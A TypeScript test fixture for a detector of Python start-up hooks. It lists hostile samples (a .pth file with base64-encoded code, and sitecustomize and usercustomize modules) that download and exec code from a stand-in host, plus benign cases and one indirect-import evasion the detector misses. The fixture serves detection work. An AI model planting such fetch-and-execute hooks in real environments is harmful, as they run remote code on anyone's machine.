import type { Examples } from "@doorward/core";

/** Environments whose interpreter runs hidden programs at its start, and honest ones. */
export const examples: Examples = {
  hits: [
    {
      name: "a path file with a line that decodes and runs",
      files: {
        "venv/lib/python3.12/site-packages/zz.pth":
          'import base64;exec(base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0OyBleGVjKHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHBzOi8vd2hlZWxzLmV4YW1wbGUvYm9vdCIpLnJlYWQoKSk="))\n',
      },
    },
    {
      name: "a start-up module that runs a download",
      files: {
        "sitecustomize.py":
          'import urllib.request\n\nexec(urllib.request.urlopen("https://wheels.example/boot").read())\n',
      },
    },
    {
      name: "a start-up module of the user that runs a download",
      files: { "usercustomize.py": 'import requests\n\nexec(requests.get("https://wheels.example/boot").text)\n' },
    },
  ],
  misses: [
    {
      name: "the path file of an editable installation",
      why: "It names a folder and runs nothing.",
      files: { "venv/lib/python3.12/site-packages/shop.pth": "/home/dev/shop\n" },
    },
    {
      name: "a path file that measures coverage",
      why: "It starts a declared package.",
      files: { "venv/lib/python3.12/site-packages/cov.pth": "import coverage; coverage.process_startup()\n" },
    },
    {
      name: "a start-up module that sets the encoding",
      why: "Nothing is fetched or decoded.",
      files: { "sitecustomize.py": "import sys\n\nsys.dont_write_bytecode = True\n" },
    },
  ],
  evasions: [
    {
      name: "a start-up module that imports a module of the project, which loads a declared package",
      caughtBy: "nothing",
      files: {
        "sitecustomize.py": "import helper\n",
        "helper.py": "import shop_telemetry\n\nshop_telemetry.start()\n",
      },
    },
  ],
};
